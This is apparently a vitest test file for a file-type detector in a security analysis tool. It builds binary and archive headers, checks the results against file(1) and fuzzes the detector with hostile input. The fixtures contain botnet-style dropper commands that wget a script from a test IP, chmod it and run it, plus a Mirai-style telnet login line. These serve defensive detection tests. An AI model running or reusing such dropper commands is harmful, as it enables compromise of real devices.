import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it, onTestFinished } from 'vitest'
import { detectFileType, type FileType } from '../../src/plugins/analyzers/file-type.js'
import { createFileTypePlugin, FileTypeOptions } from '../../src/plugins/analyzers/file-type-plugin.js'
import { attackOf, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

// The reference is Debian's file(1) (package `file`): each fixture says what we detect and what `file -b` must print.
const run = promisify(execFile)

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'file-type-'))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  return dir
}

/** What `file -b` prints for each buffer, in order. */
async function fileSays(buffers: readonly Buffer[]): Promise<string[]> {
  const dir = tempDir()
  const paths = buffers.map((data, i) => {
    const path = join(dir, `f${i}`)
    writeFileSync(path, data)
    return path
  })
  const { stdout } = await run('file', ['-b', ...paths], { maxBuffer: 4 * 1024 * 1024 })
  return stdout.split('\n').slice(0, buffers.length)
}

/** A little writer for hand-built headers. */
function writer(size: number, le: boolean): { buf: Buffer; u16(at: number, v: number): void; u32(at: number, v: number): void; u64(at: number, v: number): void; str(at: number, s: string): void } {
  const buf = Buffer.alloc(size)
  return {
    buf,
    u16: (at, v) => void (le ? buf.writeUInt16LE(v, at) : buf.writeUInt16BE(v, at)),
    u32: (at, v) => void (le ? buf.writeUInt32LE(v, at) : buf.writeUInt32BE(v, at)),
    u64: (at, v) => void (le ? buf.writeBigUInt64LE(BigInt(v), at) : buf.writeBigUInt64BE(BigInt(v), at)),
    str: (at, s) => void buf.write(s, at, 'latin1'),
  }
}

/** A minimal ELF: header, program headers, then an interpreter path and a dynamic section (DT_FLAGS_1) when asked. */
const DF_1_PIE = 0x08000000

function elf(o: { bits: 32 | 64; le: boolean; type: number; machine: number; interp?: string; flags1?: number }): Buffer {
  const wide = o.bits === 64
  const [ehsize, phentsize, dynEntry] = wide ? [64, 56, 16] : [52, 32, 8]
  const segments: { type: number; offset: number; size: number }[] = []
  let end = ehsize + phentsize * ((o.interp === undefined ? 0 : 1) + (o.flags1 === undefined ? 0 : 1))
  if (o.interp !== undefined) segments.push({ type: 3, offset: end, size: o.interp.length + 1 }), (end += o.interp.length + 1)
  if (o.flags1 !== undefined) segments.push({ type: 2, offset: end, size: 2 * dynEntry }), (end += 2 * dynEntry)
  const w = writer(end + 16, o.le)
  w.str(0, '\x7fELF')
  w.buf[4] = wide ? 2 : 1
  w.buf[5] = o.le ? 1 : 2
  w.buf[6] = 1
  w.u16(16, o.type)
  w.u16(18, o.machine)
  w.u32(20, 1)
  if (wide) [w.u64(32, ehsize), w.u16(52, ehsize), w.u16(54, phentsize), w.u16(56, segments.length)]
  else [w.u32(28, ehsize), w.u16(40, ehsize), w.u16(42, phentsize), w.u16(44, segments.length)]
  segments.forEach((s, i) => {
    const at = ehsize + i * phentsize
    w.u32(at, s.type)
    if (wide) [w.u64(at + 8, s.offset), w.u64(at + 32, s.size), w.u64(at + 40, s.size)]
    else [w.u32(at + 4, s.offset), w.u32(at + 16, s.size), w.u32(at + 20, s.size)]
  })
  if (o.interp !== undefined) w.str(segments[0]?.offset as number, o.interp)
  const dynamic = segments.find((s) => s.type === 2)
  if (dynamic !== undefined) {
    if (wide) [w.u64(dynamic.offset, 0x6ffffffb), w.u64(dynamic.offset + 8, o.flags1 ?? 0)]
    else [w.u32(dynamic.offset, 0x6ffffffb), w.u32(dynamic.offset + 4, o.flags1 ?? 0)]
  }
  return w.buf
}

/** A minimal PE: MZ header, PE signature, COFF header, optional header (no sections). */
function pe(o: { machine: number; plus: boolean; subsystem: number; dll: boolean }): Buffer {
  const optSize = o.plus ? 240 : 224
  const w = writer(64 + 24 + optSize, true)
  w.str(0, 'MZ')
  w.u32(0x3c, 64)
  w.str(64, 'PE\0\0')
  w.u16(68, o.machine)
  w.u16(70, 1)
  w.u16(84, optSize)
  w.u16(86, 0x0102 | (o.dll ? 0x2000 : 0))
  w.u16(88, o.plus ? 0x20b : 0x10b)
  w.u16(88 + 68, o.subsystem)
  w.u32(88 + (o.plus ? 108 : 92), 16) // NumberOfRvaAndSizes
  return w.buf
}

function macho(o: { bits: 32 | 64; le: boolean; cpu: number; fileType: number }): Buffer {
  const w = writer(o.bits === 64 ? 32 : 28, o.le)
  w.u32(0, o.bits === 64 ? 0xfeedfacf : 0xfeedface)
  w.u32(4, o.cpu)
  w.u32(8, o.cpu === 0x01000007 ? 3 : 0) // the "all" subtype, so file(1) names no subarchitecture
  w.u32(12, o.fileType)
  return w.buf
}

/** A one-entry zip made by hand with Node: local header, deflated data, central directory, end record. */
function zipOf(entry: string, content: Buffer): Buffer {
  const name = Buffer.from(entry)
  const data = deflateRawSync(content)
  const local = writer(30, true)
  local.str(0, 'PK\x03\x04')
  ;[local.u16(4, 20), local.u16(8, 8), local.u32(14, crc32(content)), local.u32(18, data.length), local.u32(22, content.length), local.u16(26, name.length)]
  const central = writer(46, true)
  central.str(0, 'PK\x01\x02')
  ;[central.u16(4, 20), central.u16(6, 20), central.u16(10, 8), central.u32(16, crc32(content)), central.u32(20, data.length), central.u32(24, content.length), central.u16(28, name.length)]
  const cdOffset = 30 + name.length + data.length
  const end = writer(22, true)
  end.str(0, 'PK\x05\x06')
  ;[end.u16(8, 1), end.u16(10, 1), end.u32(12, 46 + name.length), end.u32(16, cdOffset)]
  return Buffer.concat([local.buf, name, data, central.buf, name, end.buf])
}

function hex(text: string): Buffer {
  return Buffer.from(text.replace(/\s+/g, ''), 'hex')
}

const SCRIPT = '#!/bin/sh\ncd /tmp || cd /var/run\nwget http://198.51.100.7/x.sh -O x.sh\nchmod 777 x.sh\n./x.sh\n'

interface Fixture {
  readonly name: string
  readonly data: Buffer
  readonly expected: Partial<FileType> & { readonly details?: Record<string, unknown> }
  readonly file: readonly string[] // substrings `file -b` must print
}

function fixtures(): Fixture[] {
  const fat = writer(8 + 2 * 20 + 64, false)
  ;[fat.u32(0, 0xcafebabe), fat.u32(4, 2), fat.u32(8, 0x01000007), fat.u32(28, 0x0100000c)]
  const java = writer(48, false)
  ;[java.u32(0, 0xcafebabe), java.u16(6, 52)]
  return [
    { name: 'ELF ARM static', data: elf({ bits: 32, le: true, type: 2, machine: 40 }), expected: { type: 'elf', details: { class: 32, endianness: 'little', machine: 'ARM', elfType: 'executable', linking: null } }, file: ['ELF 32-bit LSB executable, ARM'] },
    { name: 'ELF MIPS BE dynamic', data: elf({ bits: 32, le: false, type: 2, machine: 8, interp: '/lib/ld-uClibc.so.0', flags1: 0 }), expected: { type: 'elf', description: 'ELF 32-bit MSB executable, MIPS, dynamically linked', details: { endianness: 'big', machine: 'MIPS', linking: 'dynamic' } }, file: ['ELF 32-bit MSB executable, MIPS', 'dynamically linked', 'interpreter /lib/ld-uClibc.so.0'] },
    { name: 'ELF AArch64 pie', data: elf({ bits: 64, le: true, type: 3, machine: 183, interp: '/lib/ld-linux-aarch64.so.1', flags1: DF_1_PIE }), expected: { type: 'elf', details: { class: 64, machine: 'AArch64', elfType: 'pie executable', linking: 'dynamic' } }, file: ['ELF 64-bit LSB pie executable, ARM aarch64', 'dynamically linked'] },
    { name: 'ELF MIPS interpreter, no dynamic section', data: elf({ bits: 32, le: true, type: 2, machine: 8, interp: '/lib/ld.so.1' }), expected: { type: 'elf', details: { linking: 'static' } }, file: ['ELF 32-bit LSB executable, MIPS', 'statically linked'] },
    { name: 'ELF x86-64 static-pie', data: elf({ bits: 64, le: true, type: 3, machine: 62, flags1: DF_1_PIE }), expected: { type: 'elf', description: 'ELF 64-bit LSB pie executable, x86-64, static-pie linked', details: { linking: 'static-pie' } }, file: ['ELF 64-bit LSB pie executable, x86-64', 'static-pie linked'] },
    { name: 'ELF x86 shared object', data: elf({ bits: 32, le: true, type: 3, machine: 3 }), expected: { type: 'elf', details: { machine: 'x86', elfType: 'shared object' } }, file: ['ELF 32-bit LSB shared object, Intel 80386'] },
    { name: 'ELF PowerPC64 BE relocatable', data: elf({ bits: 64, le: false, type: 1, machine: 21 }), expected: { type: 'elf', details: { class: 64, endianness: 'big', machine: 'PowerPC64', elfType: 'relocatable' } }, file: ['ELF 64-bit MSB relocatable, 64-bit PowerPC'] },
    { name: 'PE32 console x86', data: pe({ machine: 0x14c, plus: false, subsystem: 3, dll: false }), expected: { type: 'pe32', description: 'PE32 executable (console) x86, for MS Windows', details: { machine: 'x86', subsystem: 'console', dll: false } }, file: ['PE32 executable (console) Intel 80386, for MS Windows'] },
    { name: 'PE32+ DLL GUI x86-64', data: pe({ machine: 0x8664, plus: true, subsystem: 2, dll: true }), expected: { type: 'pe32+', details: { machine: 'x86-64', subsystem: 'GUI', dll: true } }, file: ['PE32+ executable (DLL) (GUI) x86-64, for MS Windows'] },
    { name: 'PE32+ console AArch64', data: pe({ machine: 0xaa64, plus: true, subsystem: 3, dll: false }), expected: { type: 'pe32+', details: { machine: 'AArch64', subsystem: 'console', dll: false } }, file: ['PE32+ executable (console) Aarch64'] },
    { name: 'PE32 GUI Thumb-2', data: pe({ machine: 0x1c4, plus: false, subsystem: 2, dll: false }), expected: { type: 'pe32', details: { machine: 'ARM Thumb-2', subsystem: 'GUI' } }, file: ['PE32 executable (GUI) ARMv7 Thumb'] },
    { name: 'MS-DOS', data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]), expected: { type: 'msdos', details: {} }, file: ['MS-DOS executable'] },
    { name: 'Mach-O x86-64 executable', data: macho({ bits: 64, le: true, cpu: 0x01000007, fileType: 2 }), expected: { type: 'macho', description: 'Mach-O 64-bit x86-64 executable', details: { cpu: 'x86-64', fileType: 'executable' } }, file: ['Mach-O 64-bit x86_64 executable'] },
    { name: 'Mach-O arm64 dylib', data: macho({ bits: 64, le: true, cpu: 0x0100000c, fileType: 6 }), expected: { type: 'macho', details: { cpu: 'AArch64', fileType: 'dynamic library' } }, file: ['Mach-O 64-bit arm64', 'dynamically linked shared library'] },
    { name: 'Mach-O ppc object', data: macho({ bits: 32, le: false, cpu: 18, fileType: 1 }), expected: { type: 'macho', details: { class: 32, endianness: 'big', cpu: 'PowerPC', fileType: 'object' } }, file: ['Mach-O ppc', 'object'] },
    { name: 'Mach-O fat', data: fat.buf, expected: { type: 'macho-fat', details: { architectures: 2, cpus: 'x86-64,AArch64' } }, file: ['Mach-O universal binary with 2 architectures', 'x86_64', 'arm64'] },
    { name: 'Java class', data: java.buf, expected: { type: 'java-class', details: { major: 52 } }, file: ['compiled Java class data, version 52.0'] },
    { name: 'zip', data: zipOf('payload/x.sh', Buffer.from(SCRIPT.repeat(20))), expected: { type: 'zip', description: 'Zip archive data, at least v2.0 to extract', details: { method: 'deflate', encrypted: false, firstEntry: 'payload/x.sh' } }, file: ['Zip archive data, at least v2.0 to extract', 'compression method=deflate'] },
    { name: 'gzip (Node)', data: gzipSync(Buffer.from(SCRIPT)), expected: { type: 'gzip', description: 'gzip compressed data', details: { name: null } }, file: ['gzip compressed data'] },
    { name: 'bzip2 (empty stream)', data: hex('425a6839 177245385090 00000000'), expected: { type: 'bzip2', details: { blockSizeK: 900 } }, file: ['bzip2 compressed data, block size = 900k'] },
    { name: 'xz (stream header)', data: Buffer.concat([hex('fd377a585a00 0004 e6d6b446'), Buffer.alloc(32)]), expected: { type: 'xz' }, file: ['XZ compressed data'] },
    { name: 'zstd', data: Buffer.concat([hex('28b52ffd 0058 61000068656c6c6f'), Buffer.alloc(8)]), expected: { type: 'zstd' }, file: ['Zstandard compressed data'] },
    { name: '7z', data: Buffer.concat([hex('377abcaf271c 0004'), Buffer.alloc(24)]), expected: { type: '7z' }, file: ['7-zip archive data'] },
    { name: 'rar4', data: Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), hex('cf907300000d0000000000000000'), Buffer.alloc(16)]), expected: { type: 'rar', description: 'RAR archive data, v4' }, file: ['RAR archive data'] },
    { name: 'rar5', data: Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(24)]), expected: { type: 'rar', description: 'RAR archive data, v5' }, file: ['RAR archive data', 'v5'] },
    { name: 'cab', data: Buffer.concat([Buffer.from('MSCF\0\0\0\0', 'latin1'), hex('6400000000000000 2c000000 00000000 0301 0100 0100 0000 0000 0000'), Buffer.alloc(64)]), expected: { type: 'cab' }, file: ['Microsoft Cabinet archive data'] },
    { name: 'deb', data: Buffer.from('!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n', 'latin1'), expected: { type: 'deb' }, file: ['Debian binary package'] },
    { name: 'ar', data: Buffer.from('!<arch>\nx.o/            0           0     0     644     4         `\nabcd', 'latin1'), expected: { type: 'ar' }, file: ['current ar archive'] },
    { name: 'rpm', data: Buffer.concat([hex('edabeedb 0300 0000 0001'), Buffer.from('x-1.0-1\0', 'latin1'), Buffer.alloc(80)]), expected: { type: 'rpm' }, file: ['RPM'] },
    { name: 'pdf', data: Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'), expected: { type: 'pdf' }, file: ['PDF document'] },
    { name: 'png', data: Buffer.concat([hex('89504e470d0a1a0a 0000000d 49484452 00000010 00000010 0806000000'), Buffer.alloc(16)]), expected: { type: 'png' }, file: ['PNG image data'] },
    { name: 'gif', data: Buffer.concat([Buffer.from('GIF89a', 'latin1'), hex('1000 1000 00 00 00'), Buffer.alloc(16)]), expected: { type: 'gif', description: 'GIF image data, version 89a' }, file: ['GIF image data, version 89a'] },
    { name: 'jpeg', data: Buffer.concat([hex('ffd8ffe0 0010 4a46494600 0101 0000 0001 0001 0000'), Buffer.alloc(16)]), expected: { type: 'jpeg' }, file: ['JPEG image data'] },
    { name: 'sh script', data: Buffer.from(SCRIPT), expected: { type: 'script', description: 'POSIX shell script', details: { interpreter: 'sh', heuristic: false } }, file: ['POSIX shell script'] },
    { name: 'python via env', data: Buffer.from('#!/usr/bin/env python3\nimport os\nos.system("id")\n'), expected: { type: 'script', description: 'Python script', details: { interpreter: 'python3' } }, file: ['Python script'] },
    { name: 'perl', data: Buffer.from('#!/usr/bin/perl -w\nprint "x";\n'), expected: { type: 'script', description: 'Perl script', details: { interpreter: 'perl', shebang: '/usr/bin/perl -w' } }, file: ['Perl script'] },
  ]
}

function expectMatch(found: FileType | null, expected: Fixture['expected'], name: string): void {
  expect(found, name).not.toBeNull()
  const { details, ...rest } = expected
  expect(found, name).toMatchObject(rest)
  if (details !== undefined) expect(found?.details, name).toMatchObject(details)
}

describe('detectFileType against file(1)', () => {
  it('agrees with file on hand-built headers of every supported type', async () => {
    const all = fixtures()
    const said = await fileSays(all.map((f) => f.data))
    for (const [i, fixture] of all.entries()) {
      expectMatch(detectFileType(fixture.data), fixture.expected, fixture.name)
      for (const part of fixture.file) expect(said[i], `${fixture.name}: file -b`).toContain(part)
    }
  })

  it('agrees with file on real files of this machine: /bin/ls, libc, a bash script, gzip and tar output', async () => {
    const dir = tempDir()
    writeFileSync(join(dir, 'payload.sh'), SCRIPT)
    await run('gzip', ['-k', join(dir, 'payload.sh')])
    await run('tar', ['-cf', join(dir, 'payload.tar'), '-C', dir, 'payload.sh'])
    const ls = readFileSync('/bin/ls')
    const libc = readFileSync('/lib/x86_64-linux-gnu/libc.so.6')
    const ldd = readFileSync('/usr/bin/ldd')
    const gz = readFileSync(join(dir, 'payload.sh.gz'))
    const tar = readFileSync(join(dir, 'payload.tar'))
    const said = await fileSays([ls, libc, ldd, gz, tar])
    const machineWords: Record<string, string> = { 'x86-64': 'x86-64', AArch64: 'ARM aarch64', x86: 'Intel 80386' }
    for (const [i, data] of [ls, libc].entries()) {
      const found = detectFileType(data)
      expect(found?.type).toBe('elf')
      const details = found?.details ?? {}
      expect(said[i]).toContain(`ELF ${details['class'] as number}-bit ${details['endianness'] === 'little' ? 'LSB' : 'MSB'} ${details['elfType'] as string}, ${machineWords[details['machine'] as string] as string}`)
      expect(said[i]).toContain(details['linking'] === 'dynamic' ? 'dynamically linked' : `${details['linking'] as string}ally linked`)
    }
    expect(detectFileType(ls)?.details['elfType']).toBe('pie executable')
    expect(detectFileType(libc)?.details['elfType']).toBe('shared object')
    expect(detectFileType(ldd)).toMatchObject({ type: 'script', description: 'Bourne-Again shell script', details: { interpreter: 'bash' } })
    expect(said[2]).toContain('Bourne-Again shell script')
    expect(detectFileType(gz)).toMatchObject({ type: 'gzip', description: 'gzip compressed data, was "payload.sh"', details: { name: 'payload.sh' } })
    expect(said[3]).toContain('gzip compressed data, was "payload.sh"')
    expect(detectFileType(tar)).toMatchObject({ type: 'tar', description: 'POSIX tar archive (GNU)' })
    expect(said[4]).toContain('POSIX tar archive (GNU)')
  })
})

describe('detectFileType on hostile input', () => {
  it('never throws on any prefix of a valid header, and never reports details it could not read', () => {
    const ls = readFileSync('/bin/ls')
    const samples = [...fixtures().map((f) => f.data), ls.subarray(0, 4096)]
    for (const data of samples) {
      for (let length = 0; length <= data.length; length++) {
        const found = detectFileType(data.subarray(0, length))
        if (found !== null) expect(typeof found.description).toBe('string')
      }
    }
    // A header cut before the machine field says so with null, not with a guess.
    expect(detectFileType(elf({ bits: 64, le: true, type: 2, machine: 62 }).subarray(0, 18))?.details).toMatchObject({ class: 64, machine: null })
    expect(detectFileType(pe({ machine: 0x8664, plus: true, subsystem: 2, dll: true }).subarray(0, 90))?.details).toMatchObject({ machine: 'x86-64', subsystem: null })
  })

  it('bounds lying headers: offsets past the end, huge counts, program headers that loop', () => {
    const lying = elf({ bits: 64, le: true, type: 3, machine: 62, interp: '/x', flags1: DF_1_PIE })
    lying.writeUInt16LE(0xffff, 56) // e_phnum
    expect(detectFileType(lying)?.details['linking']).toBeNull()
    const farPh = elf({ bits: 32, le: false, type: 2, machine: 8 })
    farPh.writeUInt32BE(0xfffffff0, 28)
    farPh.writeUInt16BE(3, 44)
    expect(detectFileType(farPh)?.details).toMatchObject({ machine: 'MIPS', linking: null })
    const farPe = pe({ machine: 0x14c, plus: false, subsystem: 3, dll: false })
    farPe.writeUInt32LE(0xfffffffc, 0x3c)
    expect(detectFileType(farPe)?.type).toBe('msdos')
    const fat = Buffer.alloc(16)
    fat.writeUInt32BE(0xcafebabf, 0)
    fat.writeUInt32BE(0xffffffff, 4)
    expect(detectFileType(fat)?.type).toBe('macho-fat')
    const gz = Buffer.from([0x1f, 0x8b, 0x08, 0x0c, 0, 0, 0, 0, 0, 3, 0xff, 0xff, 0x41])
    expect(detectFileType(gz)).toMatchObject({ type: 'gzip', details: { name: null } })
    expect(detectFileType(zipOf('a\x1b[31m\u00e9\n', Buffer.from('x')))?.details['firstEntry']).toBe('a?[31m???')
    const zip = zipOf('a', Buffer.from('x'))
    zip.writeUInt16LE(0xffff, 26)
    expect(detectFileType(zip)?.details['firstEntry']).toBeNull()
  })

  it('never throws on corrupted headers (random bytes written over valid ones)', () => {
    const samples = fixtures().map((f) => f.data)
    fc.assert(
      fc.property(fc.nat(samples.length - 1), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 12 }), (which, edits) => {
        const data = Buffer.from(samples[which] as Buffer)
        for (const [at, value] of edits) data[at % data.length] = value
        const found = detectFileType(data)
        expect(found === null || found.description.length > 0).toBe(true)
        // Names copied from headers are attacker bytes: only printable ASCII reaches the artifact.
        for (const value of [found?.description, ...Object.values(found?.details ?? {})]) if (typeof value === 'string') expect(value).toMatch(/^[\x20-\x7e]*$/)
      }),
      { numRuns: 3000 },
    )
    fc.assert(fc.property(fc.uint8Array({ maxLength: 600 }), (bytes) => void detectFileType(Buffer.from(bytes))), { numRuns: 2000 })
  })
})

describe('shell command heuristics', () => {
  it('finds dropper commands in text without a shebang, and leaves other text alone', () => {
    const dropper = Buffer.from('cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n')
    expect(detectFileType(dropper)).toMatchObject({ type: 'script', details: { interpreter: 'sh', heuristic: true, command: 'cd' } })
    const telnet = Buffer.concat([hex('fffb01fffb03'), Buffer.from('root\r\nxc3511\r\nenable\r\nshell\r\n/bin/busybox MIRAI\r\n')])
    expect(detectFileType(telnet)?.details).toMatchObject({ heuristic: true, command: 'busybox' })
    expect(detectFileType(Buffer.from('x=1\n./run --now\n'))?.details['command']).toBe('./')
    for (const text of ['GET / HTTP/1.1\r\nHost: x\r\n\r\n', 'cdrom is not a command\n', 'SSH-2.0-Go\r\n', 'wgetrc=1', '\0cd /tmp']) {
      expect(detectFileType(Buffer.from(text, 'latin1')), text).toBeNull()
    }
    // Only the first scriptScanBytes are read.
    const late = Buffer.from(`${'#'.repeat(5000)}\ncd /tmp\n`)
    expect(detectFileType(late)).toBeNull()
    expect(detectFileType(late, { scriptScanBytes: 8192 })?.type).toBe('script')
  })
})

describe('fileType plugin', () => {
  it('records one file-type artifact with the type as matchKey, and nothing for unknown bytes', async () => {
    const plugin = createFileTypePlugin(FileTypeOptions.parse({}))
    expect([plugin.name, plugin.phase]).toEqual(['fileType', 'analyze'])
    const ls = readFileSync('/bin/ls')
    const { artifacts } = await runPlugin(plugin, subjectOf(attackOf('x'), ls, 'sample'))
    const expected = detectFileType(ls) as FileType
    expect(artifacts).toEqual([{ kind: 'file-type', matchKey: 'elf', info: { type: 'elf', description: expected.description, details: expected.details } }])
    expect((await runPlugin(plugin, subjectOf(attackOf('GET / HTTP/1.1\r\n\r\n')))).artifacts).toEqual([])
    const dropper = await runPlugin(plugin, subjectOf(attackOf('cd /tmp && wget http://198.51.100.7/a.sh\n')))
    expect(dropper.artifacts).toMatchObject([{ kind: 'file-type', matchKey: 'script', info: { details: { heuristic: true } } }])
  })

  it('examines only the subject kinds it is given, and validates its options', async () => {
    const plugin = createFileTypePlugin(FileTypeOptions.parse({ kinds: ['sample'] }))
    expect((await runPlugin(plugin, subjectOf(attackOf(SCRIPT)))).artifacts).toEqual([])
    expect((await runPlugin(plugin, subjectOf(attackOf('x'), Buffer.from(SCRIPT), 'sample'))).artifacts).toHaveLength(1)
    expect(FileTypeOptions.parse(undefined)).toEqual({ kinds: ['attack', 'decoded', 'sample'], scriptScanBytes: 4096 })
    expect(() => FileTypeOptions.parse({ scriptScanBytes: 1 })).toThrow()
    expect(() => FileTypeOptions.parse({ kinds: [] })).toThrow()
    expect(() => FileTypeOptions.parse({ other: 1 })).toThrow()
  })
})
